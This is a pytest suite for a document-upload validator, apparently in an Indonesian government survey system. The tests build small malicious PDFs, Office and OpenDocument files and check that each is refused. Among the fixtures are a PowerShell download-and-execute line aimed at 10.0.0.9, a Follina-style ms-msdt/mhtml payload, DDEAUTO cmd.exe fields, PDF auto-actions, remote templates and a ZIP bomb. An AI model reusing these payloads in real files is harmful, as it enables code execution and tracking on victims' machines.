"""The attack corpus of issue 12: files an attacker uploads as a questionnaire so that
an officer's PC runs something or calls out when the file is opened. Each class is
built here, small, and must be refused with its own reason; the benign look-alikes
next to them (a link in a PDF, a hyperlink in a Word file, a chart's workbook) must
still be accepted."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link

from procedures.uploads import archives as upload_archives
from procedures.uploads import inspect_attachment
from tests.procedures.applications.test_uploads import (
    classic_pdf,
    odf,
    ole,
    ooxml,
    plain_zip,
    refusal,
    reportlab_pdf,
    upload,
)

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def refused(content: bytes, code: str, *words: str, name: str = "kuesioner.pdf") -> None:
    """Refused with `code`, and the Indonesian reason names what was found."""
    error = refusal(content, name)
    assert error.code == code, (error.code, error.messages)
    for word in words:
        assert word in error.messages[0], (word, error.messages[0])


def accepted(content: bytes, extension: str, name: str = "lampiran.bin") -> None:
    assert inspect_attachment(upload(content, name)).extension == extension


# PDF: something in front of the header


BAT = b"@echo off\r\nstart /min powershell -w hidden -c iwr http://10.0.0.9/a.ps1|iex\r\nexit\r\n"
HTA = (
    b"<html><head><hta:application windowstate=minimize/><script language=VBScript>"
    b'CreateObject("WScript.Shell").Run "calc.exe":window.close</script></head></html>\n'
)


@pytest.mark.parametrize("script", [BAT, HTA], ids=["bat", "hta"])
def test_a_script_placed_before_the_pdf_header_is_refused(script):
    """Readers skip up to a kilobyte of junk, Windows runs the same file as a script."""
    refused(script + reportlab_pdf(), "pdf_leading_data", "%PDF-", name="kuesioner.hta")


def test_even_a_few_bytes_before_the_pdf_header_are_refused():
    refused(b"\n\n" + reportlab_pdf(), "pdf_leading_data")


# PDF: objects the cross-reference table does not list


def object_stream(members: dict[int, bytes], extra: bytes = b"") -> bytes:
    """The body of a Flate-compressed object stream holding `members`."""
    header, body = b"", b""
    for number, content in members.items():
        header += b"%d %d " % (number, len(body))
        body += content + b"\n"
    packed = zlib.compress(header + body)
    return b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d %s>>\n" % (
        len(members),
        len(header),
        len(packed),
        extra,
    ) + (b"stream\n%s\nendstream" % packed)


JAVASCRIPT = b"<< /S /JavaScript /JS (app.launchURL\\('http://10.0.0.9/'\\)) >>"


def test_an_open_action_to_javascript_in_an_unlisted_object_is_refused():
    """Object 9 sits, compressed, in an object stream; no table says where: pypdf
    never lists it, a repairing reader finds it."""
    pdf = classic_pdf(b"/OpenAction 9 0 R", b"", object_stream({9: JAVASCRIPT}))
    assert b"JavaScript" not in pdf
    refused(pdf, "pdf_active_content", "JavaScript")


def test_an_object_stream_appended_after_the_end_of_file_is_read_too():
    pdf = classic_pdf(b"/OpenAction 9 0 R")
    pdf += b"8 0 obj\n" + object_stream({9: JAVASCRIPT}) + b"\nendobj\n"
    assert b"JavaScript" not in pdf
    refused(pdf, "pdf_active_content")


def test_an_object_stream_without_its_type_is_still_opened():
    stream = object_stream({9: JAVASCRIPT}).replace(b"/Type /ObjStm ", b"")
    refused(classic_pdf(b"/OpenAction 9 0 R", b"", stream), "pdf_active_content")


# PDF: actions that run by themselves


UNC = b"(\\\\\\\\10.0.0.9\\\\share\\\\kuesioner.pdf)"


@pytest.mark.parametrize(
    ("catalog", "page", "objects", "code"),
    [
        pytest.param(
            b"/OpenAction << /S /URI /URI (http://10.0.0.9/lacak?id=1) >>",
            b"",
            (),
            "pdf_automatic_action",
            id="open-action-uri",
        ),
        pytest.param(
            b"/OpenAction 4 0 R",
            b"",
            (b"<< /S /URI /URI (http://10.0.0.9/) >>",),
            "pdf_automatic_action",
            id="open-action-uri-indirect",
        ),
        pytest.param(
            b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://10.0.0.9/) >> >>",
            b"",
            (),
            "pdf_external_action",
            id="open-action-submit-form",
        ),
        pytest.param(
            b"/OpenAction << /S /GoToR /F " + UNC + b" /D [0 /Fit] >>",
            b"",
            (),
            "pdf_external_action",
            id="open-action-gotor-unc",
        ),
        pytest.param(
            b"/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>",
            b"",
            (),
            "pdf_external_action",
            id="open-action-gotoe",
        ),
        pytest.param(
            b"/OpenAction << /S /Launch /F (cmd.exe) >>",
            b"",
            (),
            "pdf_active_content",
            id="open-action-launch",
        ),
        pytest.param(
            b"",
            b"/AA << /O << /S /URI /URI (http://10.0.0.9/) >> >>",
            (),
            "pdf_automatic_action",
            id="page-opened-uri",
        ),
        pytest.param(
            b"/AA 4 0 R",
            b"",
            (b"<< /WC 5 0 R >>", b"<< /S /URI /URI (http://10.0.0.9/) >>"),
            "pdf_automatic_action",
            id="document-closing-uri-indirect",
        ),
        pytest.param(
            b"",
            b"/Annots [4 0 R]",
            (
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
                b"/AA << /E << /S /URI /URI (http://10.0.0.9/) >> >> >>",
            ),
            "pdf_automatic_action",
            id="mouse-enters-link-uri",
        ),
        pytest.param(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",
            b"",
            (b"[5 0 R]", b"<< /S /URI /URI (http://10.0.0.9/) >>"),
            "pdf_automatic_action",
            id="chained-after-a-goto",
        ),
        pytest.param(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /URI /URI (http://10.0.0.9/) >>",
            b"",
            (),
            "pdf_automatic_action",
            id="type-named-twice",
        ),
    ],
)
def test_automatic_actions_reaching_outside_the_document_are_refused(catalog, page, objects, code):
    refused(classic_pdf(catalog, page, *objects), code)


def test_the_automatic_action_reason_says_links_stay_allowed():
    pdf = classic_pdf(b"/OpenAction << /S /URI /URI (http://10.0.0.9/) >>")
    refused(pdf, "pdf_automatic_action", "otomatis", "Tautan biasa")


def test_a_click_that_opens_a_network_file_is_refused():
    """A link is allowed to open a web page, not a file on a share."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F %s >> >>" % UNC
    refused(classic_pdf(b"", b"/Annots [4 0 R]", link), "pdf_external_action", "folder jaringan")


def test_a_questionnaire_with_web_links_is_accepted():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(reportlab_pdf())))
    writer.add_annotation(0, Link(rect=(72, 700, 300, 720), url="https://sirusa.bps.go.id/"))
    out = io.BytesIO()
    writer.write(out)
    assert b"/URI" in out.getvalue()
    accepted(out.getvalue(), "pdf")


@pytest.mark.parametrize(
    "open_action",
    [b"/OpenAction [3 0 R /Fit]", b"/OpenAction << /S /GoTo /D [3 0 R /FitH 800] >>"],
    ids=["destination", "goto"],
)
def test_opening_at_a_page_of_the_document_is_accepted(open_action):
    accepted(classic_pdf(open_action), "pdf")


# Office: content fetched from outside the document


def rels(*relationships: tuple[str, str, str | None]) -> bytes:
    """A .rels part: (type suffix, target, target mode)."""
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for number, (kind, target, mode) in enumerate(relationships, start=10)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rows}</Relationships>"
    ).encode()


FOLLINA = "mhtml:http://10.0.0.9/x.html!x-usc:http://10.0.0.9/x.html"


@pytest.mark.parametrize(
    ("kind", "part", "relationship"),
    [
        pytest.param(
            "docx",
            "word/_rels/document.xml.rels",
            ("oleObject", FOLLINA, "External"),
            id="follina-ole-object",
        ),
        pytest.param(
            "docx",
            "word/_rels/webSettings.xml.rels",
            ("frame", "http://10.0.0.9/frame.html", "External"),
            id="frame",
        ),
        pytest.param(
            "docx",
            "word/_rels/document.xml.rels",
            ("image", "\\\\10.0.0.9\\share\\logo.png", "External"),
            id="linked-image-on-a-share",
        ),
        pytest.param(
            "docx",
            "word/_rels/document.xml.rels",
            ("subDocument", "http://10.0.0.9/bab2.docx", "External"),
            id="sub-document",
        ),
        pytest.param(
            "xlsx",
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            ("externalLinkPath", "file:///\\\\10.0.0.9\\share\\data.xlsx", "External"),
            id="workbook-on-a-share",
        ),
        pytest.param(
            "pptx",
            "ppt/slides/_rels/slide1.xml.rels",
            ("oleObject", "http://10.0.0.9/obj.bin", "External"),
            id="pptx-linked-ole",
        ),
        pytest.param(
            "docx",
            "word/_rels/document.xml.rels",
            ("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force", "External"),
            id="hyperlink-to-a-protocol-handler",
        ),
    ],
)
def test_office_documents_fetching_from_outside_are_refused(kind, part, relationship):
    document = ooxml(kind, extra={part: rels(relationship)})
    refused(document, "office_external_link", "luar dokumen", name=f"kuesioner.{kind}")


@pytest.mark.parametrize(
    "target",
    [
        "http://10.0.0.9/templates/kuesioner.dotm",
        "\\\\10.0.0.9\\share\\kuesioner.dotm",
        "file:///\\\\10.0.0.9\\share\\kuesioner.dotm",
    ],
    ids=["internet", "unc", "file-unc"],
)
def test_a_remote_template_is_refused(target):
    settings_rels = rels(("attachedTemplate", target, "External"))
    document = ooxml("docx", extra={"word/_rels/settings.xml.rels": settings_rels})
    refused(document, "office_remote_template", "templat", name="kuesioner.docx")


def test_a_template_on_the_authors_own_drive_is_accepted():
    """Word records the template of the author's PC; on an office PC it is simply absent."""
    target = "file:///C:\\Users\\Pemohon\\Documents\\Templat Kuesioner.dotx"
    settings_rels = rels(("attachedTemplate", target, "External"))
    accepted(ooxml("docx", extra={"word/_rels/settings.xml.rels": settings_rels}), "docx")


def test_a_word_file_with_ordinary_hyperlinks_is_accepted():
    links = rels(
        ("hyperlink", "https://sirusa.bps.go.id/", "External"),
        ("hyperlink", "mailto:bps3304@bps.go.id", "External"),
        ("styles", "styles.xml", None),
    )
    accepted(ooxml("docx", extra={"word/_rels/document.xml.rels": links}), "docx")


# Office: DDE


def word_document(body: str) -> bytes:
    return f'<w:document xmlns:w="{W}"><w:body><w:p>{body}</w:p></w:body></w:document>'.encode()


def with_document(body: str) -> bytes:
    """A DOCX whose document.xml has `body` as its one paragraph."""
    document = ooxml("docx")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "word/document.xml":
                data = word_document(body)
            target.writestr(item, data)
    return out.getvalue()


def run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


DDE_COMMAND = "c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;"


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            f'<w:fldSimple w:instr=" DDEAUTO {DDE_COMMAND}"><w:r><w:t>x</w:t></w:r></w:fldSimple>',
            id="simple-field",
        ),
        pytest.param(
            char("begin")
            + run(" DDE")
            + run(f"AUTO {DDE_COMMAND}")
            + char("separate")
            + "<w:r><w:t>x</w:t></w:r>"
            + char("end"),
            id="split-over-runs",
        ),
        pytest.param(
            char("begin") + run(" dde excel ") + char("end"),
            id="lower-case-dde",
        ),
        pytest.param(
            char("begin")
            + run(" IF 1 = 1 ")
            + char("begin")
            + run(f"DDEAUTO {DDE_COMMAND}")
            + char("end")
            + char("separate")
            + char("end"),
            id="nested-in-another-field",
        ),
    ],
)
def test_a_dde_field_is_refused(body):
    refused(with_document(body), "office_dde", "DDE", name="kuesioner.docx")


def test_ordinary_fields_are_accepted():
    body = (
        char("begin")
        + run(" PAGE ")
        + char("separate")
        + "<w:r><w:t>1</w:t></w:r>"
        + char("end")
        + '<w:fldSimple w:instr=" HYPERLINK &quot;https://bps.go.id&quot; "/>'
    )
    accepted(with_document(body), "docx")


def test_a_dde_link_in_a_workbook_is_refused():
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>'
    )
    workbook = ooxml("xlsx", extra={"xl/externalLinks/externalLink1.xml": link})
    refused(workbook, "office_dde", name="tabel.xlsx")


def test_a_dde_connection_in_an_opendocument_is_refused():
    content = (
        b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
        b'<text:dde-connection-decls><text:dde-connection-decl text:name="x" '
        b'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
        b"</text:dde-connection-decls></office:text></office:body></office:document-content>"
    )
    refused(odf("text", extra={"styles.xml": content}), "office_dde", name="pedoman.odt")


ODF_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
ODF_NAMESPACES = (
    f'xmlns:office="{ODF_OFFICE}" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odf_content(body: str) -> bytes:
    return (
        f"<office:document-content {ODF_NAMESPACES}><office:body>{body}</office:body>"
        "</office:document-content>"
    ).encode()


@pytest.mark.parametrize(
    ("body", "code"),
    [
        pytest.param(
            '<office:event-listeners><script:event-listener script:language="ooo:script" '
            'script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:'
            "../../../program/python-core/lib/pydoc.py$tempfilepager(1, calc.exe)?"
            'language=Python&amp;location=share"/></office:event-listeners>',
            "macro",
            id="script-event-on-mouse-over",
        ),
        pytest.param(
            "<office:event-listeners><presentation:event-listener script:event-name="
            '"dom:click" presentation:action="execute" xlink:href="file:///C:/Windows/'
            'System32/calc.exe"/></office:event-listeners>',
            "macro",
            id="click-runs-a-program",
        ),
        pytest.param(
            '<draw:frame><draw:image xlink:href="http://10.0.0.9/logo.png"/></draw:frame>',
            "office_external_link",
            id="linked-image",
        ),
        pytest.param(
            '<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>',
            "office_embedded_object",
            id="ole-object",
        ),
    ],
)
def test_active_or_linked_opendocument_content_is_refused(body, code):
    refused(odf("presentation", extra={"styles.xml": odf_content(body)}), code, name="paparan.odp")


def test_a_presentation_that_turns_pages_on_click_is_accepted():
    body = (
        '<draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame>'
        '<office:event-listeners><presentation:event-listener script:event-name="dom:click" '
        'presentation:action="next-page"/></office:event-listeners>'
    )
    accepted(odf("presentation", extra={"styles.xml": odf_content(body)}), "odp")


def test_a_presentation_button_that_runs_a_program_is_refused():
    slide = (
        b'<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        b'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<a:hlinkHover r:id="rId10" action="ppaction://program"/></p:sld>'
    )
    target = rels(("hyperlink", "file:///C:/Windows/System32/calc.exe", "External"))
    presentation = ooxml(
        "pptx",
        extra={"ppt/slides/slide1.xml": slide, "ppt/slides/_rels/slide1.xml.rels": target},
    )
    refused(presentation, "office_run_program", "program", name="paparan.pptx")


# Office: embedded objects and archives


EMBEDDED_OLE = ole("\x01Ole10Native", "\x01CompObj")


@pytest.mark.parametrize(
    "extra",
    [
        pytest.param(
            {
                "word/embeddings/oleObject1.bin": EMBEDDED_OLE,
                "word/_rels/document.xml.rels": rels(
                    ("oleObject", "embeddings/oleObject1.bin", None)
                ),
            },
            id="ole-object-with-relationship",
        ),
        pytest.param({"word/embeddings/oleObject1.bin": EMBEDDED_OLE}, id="ole-part-alone"),
        pytest.param({"word/media/image1.png": EMBEDDED_OLE}, id="ole-renamed-as-picture"),
        pytest.param(
            {"word/_rels/document.xml.rels": rels(("control", "activeX/activeX1.xml", None))},
            id="activex-control",
        ),
        pytest.param(
            {"word/embeddings/setup.exe": b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00" + bytes(64)},
            id="program",
        ),
    ],
)
def test_embedded_objects_in_a_word_file_are_refused(extra):
    refused(ooxml("docx", extra=extra), "office_embedded_object", "objek", name="kuesioner.docx")


def test_an_embedded_object_in_an_opendocument_is_refused():
    refused(odf("text", extra={"Object 1": EMBEDDED_OLE}), "office_embedded_object")


def test_an_embedded_object_in_a_legacy_word_file_is_refused():
    document = ole("WordDocument", "1Table", "ObjectPool/_1234567890/\x01Ole10Native")
    refused(document, "office_embedded_object", name="kuesioner.doc")


@pytest.mark.parametrize(
    "part", ["word/media/lampiran.zip", "word/embeddings/Microsoft_Excel_Worksheet.xlsx"]
)
def test_a_zip_inside_a_word_file_is_refused(part):
    refused(ooxml("docx", extra={part: plain_zip()}), "zip_nested", "arsip", name="kuesioner.docx")


def test_a_chart_workbook_is_checked_like_any_upload():
    """Charts keep their data as a workbook inside the document: allowed, but a macro in
    it is found."""
    with_macro = ooxml("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    document = ooxml("docx", extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": with_macro})
    refused(document, "macro", name="kuesioner.docx")


def test_a_word_file_with_a_chart_is_accepted():
    chart = {
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": ooxml("xlsx"),
        "word/charts/_rels/chart1.xml.rels": rels(
            ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", None)
        ),
    }
    accepted(ooxml("docx", extra=chart), "docx")


# ZIP bombs whose headers lie


def lying_sizes(archive: bytes, member: str, declared: int) -> bytes:
    """`archive` with `member`'s uncompressed size set to `declared` in both its local
    header and its central directory entry (CRC left alone)."""
    data = bytearray(archive)
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        info = source.getinfo(member)
    struct.pack_into("<I", data, info.header_offset + 22, declared)
    central = data.rindex(b"PK\x01\x02", 0, data.rindex(member.encode()) + 1)
    struct.pack_into("<I", data, central + 24, declared)
    return bytes(data)


def test_a_zip_bomb_that_declares_small_sizes_is_refused():
    bomb = ooxml("docx", extra={"word/media/data.bin": bytes(100 * 1024 * 1024)})
    assert len(bomb) < 200 * 1024
    lying = lying_sizes(bomb, "word/media/data.bin", 1000)
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        assert archive.getinfo("word/media/data.bin").file_size == 1000
    refused(lying, "zip_bomb", "tidak wajar", name="kuesioner.docx")


def test_a_member_larger_than_declared_is_refused_even_when_small():
    document = ooxml("docx", extra={"word/media/data.bin": b"Kuesioner " * 1000})
    refused(lying_sizes(document, "word/media/data.bin", 10), "zip_bomb", name="kuesioner.docx")


def test_decompression_stops_at_the_cap_while_streaming(monkeypatch):
    """The cap holds whatever the archive says: counted on the bytes that come out."""
    monkeypatch.setattr(upload_archives, "_ZIP_MAX_TOTAL_BYTES", 512 * 1024)
    text = b"".join(b"Baris %d kuesioner survei ubinan\n" % n for n in range(40_000))
    document = ooxml("docx", extra={"word/media/data.bin": text})
    assert len(text) > 1024 * 1024 and len(document) < 512 * 1024
    refused(document, "zip_bomb", name="kuesioner.docx")


def test_a_refusal_never_escapes_as_another_error():
    """Truncating each hostile office file anywhere gives a ValidationError, never a crash."""
    documents = [
        ooxml("docx", extra={"word/_rels/document.xml.rels": rels(("oleObject", FOLLINA, None))}),
        with_document(char("begin") + run("DDEAUTO x") + char("end")),
    ]
    for document in documents:
        for cut in range(30, len(document), 97):
            with pytest.raises(ValidationError):
                inspect_attachment(upload(document[:cut], "kuesioner.docx"))
